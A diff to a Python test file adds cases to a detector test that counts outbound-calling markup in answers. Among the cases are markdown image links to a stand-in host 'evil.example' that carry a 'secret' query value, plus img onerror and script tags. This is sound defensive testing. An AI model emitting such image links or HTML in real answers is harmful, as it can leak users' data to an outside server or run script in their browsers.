@@ -128,6 +128,7 @@ def test_questions_about_documents_pass(text: str) -> None:
     [
         ("![x](https://evil.example/?q=secret)", 1), ("![x](//evil.example/a 'title')", 1), ("<img src=x onerror=y>", 1),
         ("<script>alert(1)</script>", 1), ("see [the page](https://example.org)", 0), ("a < b and c > d", 0), ("![x](local.png)", 0),
+        ("![x](//evil.example/a", 1), ("![a [b](//evil.example) ![c](https://evil.example/d)", 2), ("![a]\n[b](//x)", 0), ("<img <img src=x>", 2),
     ],
 )  # fmt: skip
 def test_what_would_call_out_is_found_in_answers(text: str, count: int) -> None:
